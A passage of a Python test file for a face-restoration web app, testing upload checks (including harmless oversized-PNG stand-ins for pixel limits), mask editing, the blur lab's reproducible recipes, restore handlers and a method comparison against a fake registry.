"""The web app's logic without a browser: upload checks, masks and brush strokes, the blur lab's
recipe, the comparison against a fake baselines registry, feature maps,
the study's dealing, integrity checks and vote storage under concurrency, kill -9 and a database
restart (on SQLite and on a real PostgreSQL server), the admin token, and the Bradley-Terry
analysis."""

from __future__ import annotations

import collections
import csv
import io
import inspect
import json
import multiprocessing
import os
import re
import signal
import stat
import struct
import threading
import time
import zlib
from dataclasses import dataclass
from pathlib import Path
from types import SimpleNamespace

import cv2
import numpy as np
import pytest

import app  # noqa: F401  (switches telemetry off before gradio is imported)
import gradio as gr
from gradio.data_classes import ImageData
from PIL import Image
from sqlalchemy import distinct, func, insert, select
from sqlalchemy.exc import DataError, IntegrityError

from app import api, blur_tab, compare_tab, examples, face, features, learn_tab, restore_tab, study_stats, study_tab
from app.admin import TOKEN_ENV, AdminGate, Refused, admin_token
from app.rate_limit import SlidingWindow
from app.context import AppContext
from app.study import CONTROL, NotReady, Study, setup_of, study_photos
from app.study_store import Vote, VoteStore, deal, default_url, trials_table, valid_id
from app.uploads import FULL_SIZE_PIXELS, Upload, checked_editor, checked_image, read_mask_upload, read_upload
from baselines import WeightsDamaged, WeightsMissing
from smfd import degrade, labels
from smfd.errors import InputError
from smfd.images import read_image, read_labels, resize_labels, write_png
from smfd.restorer import Restoration


def png_with_declared_size(path: Path, width: int, height: int) -> Path:
    """A tiny PNG whose header claims width x height (a 'decompression bomb' stand-in)."""
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    idat = zlib.compress(b"\x00" * 64)
    path.write_bytes(b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", idat) + chunk(b"IEND", b""))
    return path


# ---------------------------------------------------------------- uploads

def test_read_upload_gives_rgb_and_names_the_users_file(tmp_path):
    good = tmp_path / "upload-123" / "face.png"
    good.parent.mkdir()
    Image.fromarray(np.full((20, 30), 77, np.uint8)).save(good)  # grayscale comes back as RGB
    image = read_upload(good, "face.png")
    assert image.shape == (20, 30, 3) and image.dtype == np.uint8 and (image == 77).all()

    cases = {
        "notes.png": (b"this is not an image", "notes.png: not an image file"),
        "empty.png": (b"", "empty.png: file is empty"),
    }
    for name, (content, message) in cases.items():
        path = tmp_path / name
        path.write_bytes(content)
        with pytest.raises(gr.Error) as err:
            read_upload(path, f"my {name}")
        assert message.replace(name, f"my {name}", 1) in err.value.message
        assert str(tmp_path) not in err.value.message  # the server's paths stay private


def test_read_upload_refuses_corrupt_and_huge_images(tmp_path, celeba):
    jpeg = next((celeba / "images").glob("*.jpg")).read_bytes()
    cut = tmp_path / "cut.jpg"
    cut.write_bytes(jpeg[: len(jpeg) // 3])
    with pytest.raises(gr.Error, match="cut.jpg: corrupt or truncated"):
        read_upload(cut)
    big = png_with_declared_size(tmp_path / "big.png", 6_000, 6_000)  # 36 MP: over the web limit
    with pytest.raises(gr.Error, match=r"big.png: image is too large for the web app \(6000x6000, 36.0 "
                                       r"megapixels; the limit is 25.0 megapixels\)"):
        read_upload(big)
    huge = png_with_declared_size(tmp_path / "huge.png", 20_000, 20_000)  # PIL's bomb check fires
    with pytest.raises(gr.Error, match=r"huge.png: image is too large for the web app \(over 179 megapixels; "
                                       r"the limit is 25.0 megapixels\)"):
        read_upload(huge)


def tiny_but_huge_png(path: Path) -> Path:
    """A valid 5000x5000 PNG of about 3 KB (one bit per pixel, all black)."""
    Image.new("1", (5000, 5000)).save(path, optimize=True)
    assert path.stat().st_size < 5_000
    return path


def test_expensive_paths_have_a_pixel_budget_checked_before_decoding(tmp_path, monkeypatch):
    bomb = tiny_but_huge_png(tmp_path / "tiny.png")
    monkeypatch.setattr("app.uploads.read_image", lambda path: pytest.fail("decoded"))
    with pytest.raises(gr.Error, match=r"tiny.png: image is too large for blurring at full size "
                                       r"\(5000x5000, 25.0 megapixels; the limit is 4.2 megapixels\)"):
        read_upload(bomb, max_pixels=FULL_SIZE_PIXELS, what="blurring at full size")
    monkeypatch.undo()
    ctx = make_context(tmp_path)
    big = np.zeros((2100, 2100, 3), np.uint8)
    with pytest.raises(gr.Error, match=r"the blur lab at full size .*2100x2100, 4.4 megapixels; the limit is 4.2"):
        blur_tab.blur_lab(ctx, big, False, ("upload", None), 0, *option_values())
    ctx = make_context(tmp_path, whole_photo=lambda *a: pytest.fail("ran"))
    photo = face.Face("group.jpg", np.zeros((4200, 4100, 3), np.uint8))
    with pytest.raises(gr.Error, match=r"group.jpg: image is too large for the whole-photo mode .*4100x4200"):
        restore_tab.restore(ctx, photo, True, lambda *a, **k: None)
    # One face restored whole keeps its fine detail at full size: 20 megapixels held the model 28 s
    ctx = make_context(tmp_path, restorer=SimpleNamespace(restore_face=lambda *a, **k: pytest.fail("ran")))
    for restore in (lambda f: restore_tab.restore(ctx, f, False, lambda *a, **k: None),
                    lambda f: restore_tab.restore_truth(ctx, f, lambda *a, **k: None)):  # every single-face path
        with pytest.raises(gr.Error, match=r"group.jpg: image is too large for a face restored as one aligned crop "
                                           r"\(use `smfd restore --aligned` for bigger ones\) \(4100x4200, 17.2 megapixels; "
                                           r"the limit is 4.2"):
            restore(photo.with_truth(np.zeros((4200, 4100), np.uint8)))
    # Compare runs every method (the deconvolution's kernel grows with the image) at full size.
    ctx = make_context(tmp_path)
    monkeypatch.setattr(compare_tab, "run_all", lambda *a, **k: pytest.fail("ran"))
    with pytest.raises(gr.Error, match=r"group.jpg: image is too large for comparing every method at full size"):
        compare_tab.compare(ctx, photo, progress=lambda *a, **k: None)


def test_an_upload_too_small_for_the_networks_is_named_at_once(tmp_path):
    Image.new("RGB", (5, 5)).save(tmp_path / "dot.png")
    with pytest.raises(gr.Error, match=r"dot.png: image is too small \(5x5; at least 8 px on each side\)"):
        read_upload(tmp_path / "dot.png")


def test_checked_image_component_reads_uploads_through_the_checks(tmp_path):
    component = checked_image()
    path = tmp_path / "x.png"
    Image.fromarray(np.zeros((16, 16, 3), np.uint8)).save(path)
    upload = component.preprocess(ImageData(path=str(path), orig_name="grandma 1950.png"))
    assert upload.shape == (16, 16, 3) and upload.file_name == "grandma 1950.png"  # what is made from it is named so
    uploaded = restore_tab.face_from_upload(upload)
    assert uploaded.name == "grandma 1950.png"
    files = restore_tab.downloads(make_context(tmp_path), uploaded.replace(restored=uploaded.blurry))
    assert [Path(f).name for f in files] == ["grandma_1950_restored.png"]
    for name, stem in (("IMG (2).png", "IMG_2"), ("x (1) (2).jpg", "x_1_2")):  # " (" is in file names too
        upload.file_name = name
        face = restore_tab.face_from_upload(upload)
        files = restore_tab.downloads(make_context(tmp_path), face.replace(restored=face.blurry))
        assert [Path(f).name for f in files] == [f"{stem}_restored.png"]
    path.write_bytes(b"GIF89a broken")
    with pytest.raises(gr.Error, match="x.png: not an image file"):
        component.preprocess(ImageData(path=str(path), orig_name="x.png"))
    assert component.preprocess(None) is None  # nothing uploaded
    with pytest.raises(gr.Error, match="as uploaded files only"):  # would skip every check above
        component.preprocess(ImageData(url="data:image/png;base64,iVBORw0KGgo="))
    assert component.get_config()["format"] == "png"  # lossless to the browser and back


def test_the_mask_editor_refuses_a_huge_layer_before_decoding_it(tmp_path):
    """The page sends layers at the editor's size; a hand-made call's 36-megapixel layer (a file of
    a few hundred kB) is refused from its header, sent as a file or as the bytes of a blob."""
    from gradio.components.image_editor import EditorData, EditorDataBlobs
    from gradio.data_classes import FileData

    editor = checked_editor(4 * face.EDITOR_SIZE ** 2, type="numpy", image_mode="RGBA", format="png")
    small, huge = tmp_path / "small.png", tmp_path / "huge.png"
    Image.fromarray(np.zeros((512, 384, 4), np.uint8)).save(small)
    Image.new("RGBA", (6000, 6000)).save(huge)
    value = editor.preprocess(EditorData(background=FileData(path=str(small)), layers=[FileData(path=str(small))]))
    assert value["layers"][0].shape == (512, 384, 4)
    with pytest.raises(gr.Error, match=r"a layer of the mask editor: image is too large .*6000x6000"):
        editor.preprocess(EditorData(background=FileData(path=str(small)), layers=[FileData(path=str(huge))]))
    editor.blob_storage["call"] = EditorDataBlobs(background=small.read_bytes(), layers=[huge.read_bytes()],
                                                  composite=None)
    with pytest.raises(gr.Error, match="image is too large for the mask editor"):
        editor.preprocess(EditorData(id="call"))


def test_mask_uploads_groups_classes_and_bad_values(tmp_path, celeba):
    groups = np.array([[0, 1], [2, 4]], np.uint8)
    Image.fromarray(groups).save(tmp_path / "g.png")
    assert (read_mask_upload(tmp_path / "g.png", "auto") == groups).all()
    mask_file = next((celeba / "masks").glob("*.png"))
    classes = read_labels(mask_file)
    assert classes.max() > 4  # a real CelebAMask-HQ mask: 'auto' must see classes
    assert (read_mask_upload(mask_file, "auto") == labels.to_groups(classes)).all()
    Image.fromarray(np.array([[0, 7]], np.uint8)).save(tmp_path / "bad.png")
    with pytest.raises(gr.Error, match="bad.png: group labels must lie in 0..4"):
        read_mask_upload(tmp_path / "bad.png", "groups")
    Image.fromarray(np.zeros((4, 4, 3), np.uint8)).save(tmp_path / "rgb.png")
    with pytest.raises(gr.Error, match="rgb.png: a label map must be a palette or grayscale PNG"):
        read_mask_upload(tmp_path / "rgb.png", "auto")


def test_unexpected_errors_become_a_message_rather_than_a_bare_error(capsys):
    from app.main import clear_errors

    def broken(x, request: gr.Request, progress=gr.Progress()):
        return 1 / x

    wrapped = clear_errors(broken)
    assert wrapped(2, None) == 0.5
    with pytest.raises(gr.Error, match=r"Something went wrong on the server \(ZeroDivisionError\)"):
        wrapped(0, None)
    assert "ZeroDivisionError" in capsys.readouterr().err  # the traceback is in the server's log
    with pytest.raises(gr.Error) as err:  # a message for the user passes unchanged
        clear_errors(lambda: (_ for _ in ()).throw(gr.Error("kept")))()
    assert err.value.message == "kept"
    # Gradio still sees the parameters it fills in itself (request by its type, progress by its default)
    from gradio.utils import get_type_hints

    assert get_type_hints(wrapped)["request"] is gr.Request
    assert isinstance(inspect.signature(wrapped).parameters["progress"].default, gr.Progress)


# ---------------------------------------------------------------- masks and brush strokes

def test_mask_download_is_a_palette_png_with_group_values(tmp_path):
    mask = np.random.default_rng(0).integers(0, 5, (24, 32)).astype(np.uint8)
    path = face.write_mask_png(tmp_path / "m.png", mask)
    img = Image.open(path)
    assert img.mode == "P"
    assert (read_labels(path) == mask).all()
    assert (np.asarray(img.convert("RGB")) == labels.colorize(mask)).all()


def test_brush_strokes_in_group_colours_become_labels():
    mask = np.zeros((100, 100), np.uint8)
    layer = np.zeros((200, 200, 4), np.uint8)  # the editor works at its own (larger) size
    layer[40:60, 20:180, :3] = labels.GROUP_PALETTE[2]
    layer[40:60, 20:180, 3] = 255
    layer[60:62, 20:180, :3] = labels.GROUP_PALETTE[4]
    layer[60:62, 20:180, 3] = 90  # an anti-aliased edge: too faint to count
    edited = face.apply_strokes(mask, [layer])
    assert (edited[21:29, 11:89] == 2).all()
    assert (edited[:19] == 0).all() and (edited[32:] == 0).all()
    assert not (edited == 4).any()
    assert (face.apply_strokes(mask, []) == mask).all()


def test_an_api_call_without_a_file_is_named():
    for sent in (None, "face.png", {"orig_name": "face.png"}):
        with pytest.raises(gr.Error, match=r"image: a file is required"):
            api._image(sent)
    with pytest.raises(ValueError, match="label values must be 'groups', 'classes' or 'auto'"):
        read_mask_upload(Path("unused.png"), "bogus")


def test_brush_strokes_on_a_large_mask_are_matched_at_the_editor_s_size():
    """A 2000x2000 upload's mask, edited at 512 px: colours are matched at 512 px, then the
    groups scaled (matching at the mask's size took 400 MB for one layer)."""
    import tracemalloc

    mask = np.ones((2000, 2000), np.uint8)
    layer = np.zeros((512, 512, 4), np.uint8)
    layer[256:, :, :3] = labels.GROUP_PALETTE[3]
    layer[256:, :, 3] = 255
    tracemalloc.start()
    edited = face.apply_strokes(mask, [layer])
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert (edited[1000:] == 3).all() and (edited[:1000] == 1).all()
    assert peak < 80e6, f"{peak / 1e6:.0f} MB"


def test_editor_shows_the_mask_over_the_face():
    blurry = np.full((128, 96, 3), 100, np.uint8)
    mask = np.zeros((128, 96), np.uint8)
    mask[:, 48:] = 3
    value = face.editor_value(face.Face("x", blurry, mask=mask))
    bg = value["background"]
    assert bg.shape == (512, 384, 3) and value["layers"] == []
    assert (bg[:, :150] == 100).all()  # background group: untinted
    assert not (bg[:, 250:] == 100).all()  # hair: tinted in its colour


def test_face_references_must_match_the_blurry_image():
    f = face.Face("x", np.zeros((64, 64, 3), np.uint8))
    assert f.with_sharp(np.zeros((128, 128, 3), np.uint8)).sharp.shape == (64, 64, 3)
    with pytest.raises(InputError, match="does not match"):
        f.with_truth(np.zeros((64, 128), np.uint8))
    # the rule of `smfd restore --masks` (restore_files): 2 % of the aspect ratio, whichever side is longer
    flat = face.Face("x", np.zeros((247, 1000, 3), np.uint8))
    assert flat.with_truth(np.zeros((250, 1000), np.uint8)).truth.shape == (247, 1000)
    with pytest.raises(InputError, match=r"the ground-truth mask \(500x1000\) does not match the blurry image \(480x1000\)"):
        face.Face("x", np.zeros((1000, 480, 3), np.uint8)).with_truth(np.zeros((1000, 500), np.uint8))


# ---------------------------------------------------------------- contexts for handlers

class FakeRestorer:
    """Stands in for the networks where a test is about the app's logic, not the model's."""

    device = "cpu"

    def mask(self, image):
        return np.ones(image.shape[:2], np.uint8)

    def restore(self, image, mask=None):
        return np.clip(image.astype(int) + (10 if mask is None else 20 + int(mask.max())), 0, 255).astype(np.uint8)

    def restore_face(self, image, mask=None):
        groups = self.mask(image) if mask is None else mask
        return Restoration(self.restore(image, mask), groups, mask is None)


def make_context(tmp_path, **extra) -> AppContext:
    return AppContext(**{"restorer": FakeRestorer(), "examples": examples.find_examples(None),
                         "work_dir": tmp_path / "work", **extra})


# ---------------------------------------------------------------- examples

def test_astronaut_example_is_aligned_like_the_training_crops():
    from smfd.faces import TEMPLATE, detect_faces, key_points

    crop = examples.astronaut_face()
    assert crop.shape == (512, 512, 3) and crop.dtype == np.uint8
    kept = crop.copy()
    crop[:] = 0  # each call hands out its own copy
    assert np.array_equal(examples.astronaut_face(), kept)
    found = detect_faces(kept, rotations=False)
    assert len(found) == 1
    # Eyes and mouth corners on the CelebA-HQ template (there they vary by 1-2 % of the side).
    assert np.abs(key_points(found[0].landmarks) / 512 - TEMPLATE).max() < 0.04


# ---------------------------------------------------------------- blur lab

def option_values(**changes):
    d = degrade.PipelineOptions()
    values = dict(layers=list(d.layers), sequences=list(d.sequences), gaussian_sizes=list(d.gaussian_sizes),
                  motion_sizes=list(d.motion_sizes), directions=list(d.directions),
                  scale_lo=2.0, scale_hi=4.0, noise_lo=5.0, noise_hi=10.0, blur_on=True,
                  rescale_on=True, noise_on=True)
    values.update(changes)
    return list(values.values())


def test_blur_lab_recipe_replays_the_result_and_files_are_per_request(tmp_path):
    ctx = make_context(tmp_path)
    sharp = examples.astronaut_face()
    values = option_values(layers=[2], sequences=["G>M"], directions=["vertical"], noise_on=False)
    outputs = [blur_tab.blur_lab(ctx, sharp, True, ("astronaut", None), 7, *values) for _ in range(2)]
    blurry, kernels, summary, text, (blurred, path, given), lab_face = outputs[0]
    assert blurred.endswith("astronaut_seed7_blurred.png") and (read_image(blurred) == blurry).all()
    assert given.endswith("astronaut_seed7_sharp_512x512.png")  # an example: the user has no file of it
    assert (read_image(given) == sharp).all()
    record = json.loads(text)
    assert record["seed"] == 7 and record["source"] == "astronaut" and record["noise_sigma"] is None
    assert [[op["kind"] for op in layer] for layer in record["layers"]] == [["gaussian", "motion"]] * 2
    assert all(layer[1]["direction"] == "vertical" for layer in record["layers"])
    replay = degrade.apply(sharp, degrade.Recipe.from_dict(json.loads(Path(path).read_text())))
    assert (replay == blurry).all()
    assert (outputs[1][0] == blurry).all() and outputs[1][4][1] != path  # same seed, own file
    uploaded = blur_tab.blur_lab(ctx, sharp, True, None, 7, *values)[4]  # the user's own 512 px file: no copy
    assert [Path(f).name for f in uploaded] == ["upload_seed7_blurred.png", "upload_seed7_recipe.json"]
    # A face the lab scales to 512 px first comes with its scaled copy: the recipe replays on that.
    large = cv2.resize(sharp, (800, 800), interpolation=cv2.INTER_CUBIC)
    big, *_, (_, big_recipe, scaled), _ = blur_tab.blur_lab(ctx, large, True, ("big", None), 7, *values)
    assert scaled.endswith("big_seed7_sharp_512x512.png")
    replay = degrade.apply(read_image(scaled), degrade.Recipe.from_dict(json.loads(Path(big_recipe).read_text())))
    assert (replay == big).all()
    assert kernels.ndim == 3 and kernels.shape[1] > kernels.shape[0]  # 4 kernels + PSF in a row
    assert lab_face.sharp is not None and (lab_face.blurry == blurry).all()
    with pytest.raises(gr.Error, match="sequence with Gaussian blur needs"):
        blur_tab.blur_lab(ctx, sharp, True, None, 0, *option_values(gaussian_sizes=[]))
    off = option_values(blur_on=False, rescale_on=False, noise_on=False)  # refused as `smfd blur` does
    with pytest.raises(gr.Error, match="every stage is switched off"):
        blur_tab.blur_lab(ctx, sharp, True, None, 0, *off)
    assert "every stage is switched off" in blur_tab.count_text(*off)


def test_the_blur_lab_draws_and_applies_as_smfd_blur_does(tmp_path):
    """Seed N on an upload called F gives `smfd blur F --seed N`'s pixels, a grey face's too (one
    channel of noise, not three that tint it), whatever order the boxes were ticked in."""
    from smfd.cli import main

    ctx = make_context(tmp_path)
    grey = cv2.cvtColor(examples.astronaut_face(), cv2.COLOR_RGB2GRAY)
    Image.fromarray(grey).save(tmp_path / "grey face.png")
    upload = np.repeat(grey[..., None], 3, axis=2).view(Upload)
    upload.file_name = "grey face.png"
    blurry, _, _, text, *_ = blur_tab.blur_lab(ctx, upload, False, None, 9, *option_values())
    assert main(["blur", str(tmp_path / "grey face.png"), str(tmp_path / "cli"), "--seed", "9"]) == 0
    cli = np.asarray(Image.open(tmp_path / "cli" / "grey face.png"))
    assert cli.ndim == 2 and all((blurry[..., c] == cli).all() for c in range(3))
    assert json.loads(text)["seed"] == 9 and json.loads(text)["source"] == "grey face.png"
    # the same boxes ticked in another order (Gradio lists a box ticked again last): the same draw
    shuffled = option_values(sequences=["G>M>G", "M", "M>G", "G>M"], directions=["vertical", "diagonal",
                                                                               "anti-diagonal", "horizontal"])
    assert (blur_tab.blur_lab(ctx, upload, False, None, 9, *shuffled)[0] == blurry).all()
    # JPEG compression, not in the thesis, is an option here too
    compressed, _, _, text, *_ = blur_tab.blur_lab(ctx, upload, False, None, 9, *option_values(
        jpeg_on=True, jpeg_lo=20, jpeg_hi=20, jpeg_share=1.0))
    assert main(["blur", str(tmp_path / "grey face.png"), str(tmp_path / "jpeg"), "--seed", "9", "--jpeg", "20", "20"]) == 0
    assert json.loads(text)["jpeg_quality"] == 20
    assert (compressed[..., 0] == np.asarray(Image.open(tmp_path / "jpeg" / "grey face.png"))).all()


def test_every_event_that_changes_the_face_waits_for_the_others(tmp_path):
    """An upload that ran beside the adoption of the face before it's result left that result
    beside the new face (3 of 5 tries in a browser): the events that write the face share one
    queue of one at a time."""
    from app.main import build_app

    demo = build_app(make_context(tmp_path))
    fns = list(demo.fns.values())
    adoption = next(f for f in fns if getattr(getattr(f.fn, "__wrapped__", None), "func", None) is restore_tab.adopted)
    face_state = adoption.outputs[0]
    writers = [f for f in fns if face_state in f.outputs]
    assert len(writers) >= 8 and {f.concurrency_id for f in writers} == {"face"}, \
        [(f.name, f.concurrency_id) for f in writers]
    assert all(f.concurrency_limit == 1 for f in writers)  # not the queue's default, which may change


def test_send_to_restore_shows_the_example_s_mask_it_brings(tmp_path):
    """A lab face of a dataset example carries its true mask: the Restore tab's box shows it, read
    as groups (it came along unseen, used by 'Use the ground-truth mask' and the report's Dice)."""
    from app.main import send_to_restore

    ctx = make_context(tmp_path)
    sharp = examples.astronaut_face()
    truth = np.zeros(sharp.shape[:2], np.uint8)
    truth[100:400, 100:400] = 1
    lab = face.Face("example (blur lab, seed 1)", examples.blurred(sharp, 1, "example")[0], sharp,
                    origin="example").with_truth(truth)
    sent, blurry, *_, button, sharp_box, truth_box, kind, tabs = send_to_restore(ctx, lab)
    assert sent is lab and (blurry == lab.blurry).all() and (sharp_box == sharp).all() and button.interactive
    assert kind == "groups" and (read_labels(truth_box) == truth).all()
    *_, truth_box, kind, _ = send_to_restore(ctx, lab.replace(truth=None))  # a mask's values read as auto again
    assert truth_box is None and kind == "auto"


def test_live_count_follows_the_options():
    assert "1,743,335,166,888 scenarios" in blur_tab.count_text(*option_values())
    few = blur_tab.count_text(*option_values(layers=[1], sequences=["M"], directions=["vertical"],
                                             noise_on=False))
    assert "126 scenarios" in few  # 6 motion sizes x 1 direction x 21 scales
    compressed = blur_tab.count_text(*option_values(layers=[1], sequences=["M"], directions=["vertical"],
                                                    noise_on=False, jpeg_on=True, jpeg_lo=40, jpeg_hi=60))
    assert "2,646 scenarios" in compressed and "21 JPEG qualities" in compressed
    assert "do not make a pipeline" in blur_tab.count_text(*option_values(layers=[]))


def test_learn_tab_derives_the_count_and_names_the_thesis_slip():
    text = learn_tab.count_explained()
    assert "**1,176**" in text and "1,626,379,776" in text and "1,627,763,928" in text
    assert "**1,743,335,166,888**" in text and "1,743,940,018,728" in text
    assert "1,628,327,928" in text and "1,743,940,067,688" in text  # the thesis' other two slips
    other = learn_tab.count_explained(degrade.PipelineOptions(layers=(1,), noise=False))
    assert "slip" not in other and "1,176 x 21 x 1 = **24,696**" in other
    rows = learn_tab.ablation_rows()
    assert [r[0] for r in rows] == ["no-mask", "plain-upsampling", "attention-transpose",
                                    "attention-pixelshuffle", "full"]
    assert int(rows[0][3].replace(",", "")) < int(rows[-1][3].replace(",", ""))  # no mask branch


# ---------------------------------------------------------------- restore handlers

def test_a_loaded_example_shows_its_references_in_their_boxes(tmp_path, celeba):
    """The boxes show what the face holds: a dataset example's mask is in the mask box (as group
    values, the radio saying so), so a mask refused there drops what the box showed, nothing unseen."""
    ctx = make_context(tmp_path, examples=examples.find_examples(celeba))
    face = restore_tab.face_from_example(ctx, ctx.examples[1].name, 3)
    blurry, *results, truth_button, sharp, truth_file, kind = restore_tab.loaded(ctx, face)
    assert blurry is face.blurry and sharp is face.sharp and results == list(restore_tab.cleared()[:-1])
    assert truth_button.interactive and kind == "groups"
    assert Path(truth_file).name == f"{ctx.examples[1].name}_true_mask.png"  # not the used mask's name
    assert np.array_equal(read_mask_upload(truth_file, kind), face.truth) and face.truth.max() > 0
    astronaut = restore_tab.face_from_example(ctx, examples.BUILTIN, 3)
    *_, truth_button, sharp, truth_file, kind = restore_tab.loaded(ctx, astronaut)
    assert not truth_button.interactive and truth_file is None and sharp is astronaut.sharp


def test_restore_edit_truth_and_back_keep_track_of_the_mask(tmp_path):
    ctx = make_context(tmp_path)
    f = restore_tab.face_from_example(ctx, examples.BUILTIN, 3)
    assert f.sharp.shape == f.blurry.shape == (512, 512, 3) and f.truth is None
    f = f.with_truth(np.full((512, 512), 2, np.uint8))
    restored = restore_tab.restore(ctx, f, False, lambda *a, **k: None)
    state, (before, after), report, files, editor, _ = restore_tab.show(ctx, restored)
    assert state.mask_source == "generated" and (state.mask == 1).all()  # the fake generator
    assert "PSNR" in report and "mean Dice" in report and editor["background"].shape == (512, 512, 3)
    assert [Path(p).name for p in files] == ["astronaut_restored.png", "astronaut_mask.png"]
    assert (read_labels(files[1]) == 1).all()

    stroke = np.zeros((512, 512, 4), np.uint8)
    stroke[100:120, :, :3] = labels.GROUP_PALETTE[4]
    stroke[100:120, :, 3] = 255
    edited = restore_tab.restore_edited(ctx, state, {"layers": [stroke]}, lambda *a, **k: None)
    edited, *rest = restore_tab.show(ctx, edited)
    assert edited.mask_source == "edited" and (edited.mask[100:120] == 4).all() and (edited.mask[:100] == 1).all()
    assert (edited.restored == np.clip(f.blurry.astype(int) + 24, 0, 255)).all()  # the edited mask was used
    assert Path(rest[2][0]).parent != Path(files[0]).parent  # every request writes its own folder
    truth = restore_tab.restore_truth(ctx, edited, lambda *a, **k: None)
    assert truth.mask_source == "ground truth" and (truth.mask == 2).all()
    # the generator's mask is what is scored against the truth, not the truth against itself
    assert "Generated mask vs ground truth: mean Dice 0.0 %" in face.report(truth)
    assert "Edited mask vs ground truth" in face.report(edited)
    back = restore_tab.restore_generated(ctx, truth, lambda *a, **k: None)
    assert back.mask_source == "generated" and (back.mask == 1).all()
    with pytest.raises(gr.Error, match="no ground-truth mask"):
        restore_tab.restore_truth(ctx, face.Face("x", f.blurry), lambda *a, **k: None)


def test_references_follow_their_boxes_and_show_at_once(tmp_path):
    """A sharp face or mask uploaded after a restoration shows in its report without restoring
    again; the mask is read again when its values' radio button changes; a reference removed from
    its box leaves the face; seeds stay in the boxes' range."""
    ctx = make_context(tmp_path)
    sharp = examples.astronaut_face()
    blurry = face.Face("upload", examples.blurred(sharp, 1, "upload")[0])
    assert restore_tab.with_sharp(blurry, sharp)[1] == gr.update()  # nothing restored: no report yet
    done = restore_tab.restore(ctx, blurry, False, lambda *a, **k: None)
    restored, _, shown, *_ = restore_tab.adopted(ctx, blurry, done)
    assert "No sharp reference" in shown
    # A sharp face uploaded while the model worked stays; a result for a face replaced meanwhile is dropped
    meanwhile, shown, _ = restore_tab.with_sharp(blurry, sharp)
    adopted, _, shown, *_ = restore_tab.adopted(ctx, meanwhile, done)
    assert adopted.sharp is not None and adopted.restored is done.restored and "| restored |" in shown
    replaced = face.Face("another", examples.blurred(sharp, 2, "upload")[0])
    assert restore_tab.adopted(ctx, replaced, done) == (gr.update(),) * 6
    with_sharp, shown, _ = restore_tab.with_sharp(restored, sharp)
    assert "| restored |" in shown and with_sharp.sharp is not None
    mask = tmp_path / "mask.png"
    Image.fromarray(np.repeat(np.array([0, 2, 3], np.uint8), [200, 200, 112])[:, None].repeat(512, 1)).save(mask)
    as_groups, shown, button = restore_tab.with_truth(with_sharp, str(mask), "groups")
    assert set(np.unique(as_groups.truth)) == {0, 2, 3} and "mean Dice" in shown and button.interactive
    as_classes, *_ = restore_tab.with_truth(as_groups, str(mask), "classes")  # the radio button changed
    assert (as_classes.truth == labels.to_groups(as_groups.truth)).all()
    assert not (as_classes.truth == as_groups.truth).all()
    assert restore_tab.with_truth(as_classes, None, "groups")[0] is as_classes  # no file: nothing to read
    dropped, shown, button = restore_tab.without(as_classes, "sharp")
    assert dropped.sharp is None and dropped.truth is not None and "No sharp reference" in shown
    dropped, shown, button = restore_tab.without(dropped, "truth")
    assert dropped.truth is None and "mean Dice" not in shown and not button.interactive
    for seed in (-1, examples.SEEDS, float("nan"), 2.7):  # 2.7 was taken as 2
        with pytest.raises(gr.Error, match=f"seed must be a whole number from 0 to 4294967295, got {seed}"):
            restore_tab.face_from_example(ctx, examples.BUILTIN, seed)
        with pytest.raises(gr.Error, match="seed must be a whole number"):
            blur_tab.blur_lab(ctx, sharp, True, None, seed, *option_values())


def test_whole_photo_mode_uses_the_photo_pipeline(tmp_path):
    class Report:
        def __init__(self, faces=2):
            self.faces = self.restored = list(range(faces))

        def summary(self):
            return f"{len(self.faces)} faces found, {len(self.restored)} restored"

    calls = []

    def whole_photo(image, restorer):
        calls.append(restorer)
        return 255 - image, Report(2 if image.mean() > 5 else 0)

    ctx = make_context(tmp_path, whole_photo=whole_photo)
    photo = face.Face("upload", np.full((300, 400, 3), 10, np.uint8))
    done = restore_tab.restore(ctx, photo, True, lambda *a, **k: None)
    state, (_, after), report, files, editor, _ = restore_tab.adopted(ctx, photo, done)
    assert calls == [ctx.restorer] and (after == 245).all()
    assert "whole photo: 2 faces found, 2 restored" in report and editor is None
    assert [Path(p).name for p in files] == ["upload_restored.png"]
    # no face: an error, not the photo offered back as if it were a result (as `smfd restore`)
    with pytest.raises(gr.Error, match="dark: no face found"):
        restore_tab.restore(ctx, face.Face("dark", np.zeros((300, 400, 3), np.uint8)), True, lambda *a, **k: None)
    with pytest.raises(gr.Error, match="A whole photo's faces have no one mask to edit"):
        restore_tab.restore_edited(ctx, state, {"layers": []}, lambda *a, **k: None)


# ---------------------------------------------------------------- compare with a fake registry

class FakeWeightsMissing(WeightsMissing):
    pass


@dataclass(frozen=True)
class FakeInfo:
    name: str
    title: str
    licence: str = "MIT"
    commercial_use: bool = True
    needs_mask: bool = False


class FakeMethod:
    def __init__(self, shift):
        self.shift, self.masks = shift, []

    def restore(self, image, mask=None):
        self.masks.append(mask)
        return np.clip(image.astype(int) + self.shift, 0, 255).astype(np.uint8)


class FakeRegistry:
    def __init__(self):
        self.loaded = {"sharpen": FakeMethod(5), "masked": FakeMethod(-5)}

    def methods(self):
        return [FakeInfo("blurry", "Blurry input"), FakeInfo("smfd", "SMFD"),
                FakeInfo("sharpen", "Sharpen", "BSD"), FakeInfo("gone", "Gone-GAN", "NC", False),
                FakeInfo("masked", "Masked", needs_mask=True), FakeInfo("broken", "Broken"),
                FakeInfo("rotten", "Rotten-GAN")]

    def load(self, name, weights=None, device="cpu", restorer=None):
        time.sleep(0.5)  # reading a checkpoint: not the method's restoring time
        if name == "gone":
            raise FakeWeightsMissing("gone: weights not found; run 'smfd baselines download gone'")
        if name == "broken":
            raise RuntimeError("no such layer")
        if name == "rotten":
            raise WeightsDamaged("rotten: /srv/w.pth is not the official file")
        return self.loaded[name]


def test_compare_runs_every_method_and_explains_the_missing_ones(tmp_path):
    ctx = make_context(tmp_path, baselines=FakeRegistry())
    sharp = np.full((64, 64, 3), 120, np.uint8)
    truth = np.full((64, 64), 3, np.uint8)
    f = face.Face("x", np.full((64, 64, 3), 100, np.uint8), sharp, truth)
    gallery, rows, missing, note = compare_tab.compare(ctx, f, progress=lambda *a, **k: None)
    titles = [t for _, t in gallery]
    assert titles == ["blurry input", "SMFD (generated mask)", "SMFD (given: ground-truth mask)",
                      "Sharpen", "Masked"]
    # saved as the face's name and the method's: what the gallery's download button names them
